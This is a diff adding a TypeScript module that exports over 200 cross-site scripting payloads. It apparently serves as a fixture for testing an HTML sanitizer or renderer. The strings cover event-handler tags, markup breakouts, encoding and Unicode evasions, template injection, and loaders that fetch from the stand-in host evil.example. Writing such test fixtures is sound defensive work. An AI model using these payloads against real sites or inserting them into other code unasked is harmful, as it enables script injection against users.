@@ -1,0 +1,75 @@
+const SCRIPT = 'window.ran=(window.ran||0)+1';
+const FETCH = 'http://evil.example/x';
+
+const TAGS = [
+  'svg',
+  'img',
+  'video',
+  'audio',
+  'body',
+  'input',
+  'details',
+  'iframe',
+  'object',
+  'marquee',
+  'style',
+  'math',
+];
+const EVENTS = ['onload', 'onerror', 'onfocus', 'ontoggle', 'onmouseover', 'onbegin', 'onpageshow', 'onanimationstart'];
+const CLOSERS = ['', '"', "'", '`', '">', "'>", '</title>', '</style>', '</text></svg>', '</script>', '-->', ']]>'];
+const LOADERS = [
+  `<img src=${FETCH}>`,
+  `<link rel=stylesheet href=${FETCH}>`,
+  `<script src=${FETCH}></script>`,
+  `<iframe src=${FETCH}></iframe>`,
+  `<object data=${FETCH}></object>`,
+  `<embed src=${FETCH}>`,
+  `<video poster=${FETCH}>`,
+  `<base href=${FETCH}>`,
+  `<meta http-equiv=refresh content="0;url=${FETCH}">`,
+  `<svg><image href=${FETCH} /></svg>`,
+  `<svg><use href="${FETCH}#a"/></svg>`,
+  `<style>@import url(${FETCH});*{background:url(${FETCH})}</style>`,
+  `<a href="javascript:${SCRIPT}" id=x autofocus>x</a>`,
+  `<form action=${FETCH}><button autofocus>x</button></form>`,
+  `url(${FETCH})`,
+  `;background:url(${FETCH})`,
+  `}*{background:url(${FETCH})}`,
+  `" style="background:url(${FETCH})`,
+  `javascript:${SCRIPT}`,
+  `data:text/html,<script>${SCRIPT}</script>`,
+  `&lt;script&gt;${SCRIPT}&lt;/script&gt;`,
+  `&#x3C;script&#x3E;${SCRIPT}&#x3C;/script&#x3E;`,
+  `\\u003cscript\\u003e${SCRIPT}\\u003c/script\\u003e`,
+  `+ADw-script+AD4-${SCRIPT}+ADw-/script+AD4-`,
+  `<scr\0ipt>${SCRIPT}</scr\0ipt>`,
+  `<\u200Bscript>${SCRIPT}</script>`,
+  `＜script＞${SCRIPT}＜/script＞`,
+  `<![CDATA[<script>${SCRIPT}</script>]]>`,
+  `<!--<img src="--><img src=x onerror=${SCRIPT}//">`,
+  `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>">`,
+  `<template><script>${SCRIPT}</script></template>`,
+  `<svg><script href="data:text/javascript,${SCRIPT}"/></svg>`,
+  `{{constructor.constructor('${SCRIPT}')()}}`,
+  `\${${SCRIPT}}`,
+  `[x](javascript:${SCRIPT})`,
+  `![x](${FETCH})`,
+  `[x]: ${FETCH}`,
+  `<${FETCH}>`,
+  `\u202E<script>${SCRIPT}</script>\u202C`,
+  `\uD800<script>${SCRIPT}</script>\uDC00`,
+];
+
+/** 200 and more texts that try to run a script, load something, or break out of the markup around them. */
+export const PAYLOADS: readonly string[] = [
+  ...TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} src=x ${event}=${SCRIPT} tabindex=1 autofocus open>`)),
+  ...CLOSERS.flatMap((closer) => [
+    `${closer}<script>${SCRIPT}</script>`,
+    `${closer} onmouseover=${SCRIPT} autofocus onfocus=${SCRIPT} x=`,
+    `${closer}<img src=x onerror=${SCRIPT}>`,
+    `${closer}<svg/onload=${SCRIPT}>`,
+    `${closer}<iframe srcdoc="<script>parent.${SCRIPT}</script>">`,
+  ]),
+  ...LOADERS,
+  ...LOADERS.map((one) => one.toUpperCase()).slice(0, 12),
+];
